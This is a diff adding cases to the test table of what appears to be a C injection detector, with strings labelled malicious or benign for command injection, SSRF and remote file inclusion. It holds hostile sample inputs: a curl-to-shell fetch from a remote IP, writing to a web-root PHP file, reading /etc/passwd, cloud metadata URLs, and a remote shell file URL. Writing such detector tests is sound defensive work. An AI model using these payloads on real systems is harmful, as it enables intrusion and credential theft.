@@ -178,6 +178,14 @@ static const struct dcase cases[] = {
 	{ "cmdi", 0, "name: CI\non: [push]\njobs:\n  b:\n    steps:\n      - run: echo \"$T\" | docker login -u x --password-stdin\n      - run: ls -la /tmp && cat out.log\n" },
 	{ "cmdi", 1, "FROM alpine\nRUN apk add curl\nRUN curl -s http://203.0.113.9/x | sh\n" },
 	{ "cmdi", 1, "x | tee /var/www/html/s.php" },
+	/* words after a URL's query or fragment, and blanks before it, do not
+	 * stop a fetcher */
+	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/#a b" },
+	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/?a b" },
+	{ "ssrf", 1, " http://169.254.169.254/latest/meta-data/" },
+	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
+	{ "rfi", 1, "http://203.0.113.9/shell.txt? x" },
+	{ "rfi", 0, "https://item.example.cn/1.html is it in stock?" },
 	/* a filter with a file argument reads the file, not the pipe */
 	{ "cmdi", 1, "127.0.0.1|sort /etc/passwd" },
 	{ "cmdi", 1, "127.0.0.1 | head /etc/passwd" },
